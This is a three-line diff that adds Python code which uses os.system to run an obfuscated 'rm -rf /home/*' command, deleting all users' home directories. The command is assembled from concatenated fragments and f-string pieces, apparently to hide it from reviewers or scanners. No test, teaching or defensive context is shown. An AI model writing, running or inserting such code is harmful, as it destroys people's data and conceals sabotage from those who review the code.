@@ -1,0 +1,3 @@
+import os
+r = "r" + "m"
+os.system(f"{r} -{'r'}f {'/'}home/*")
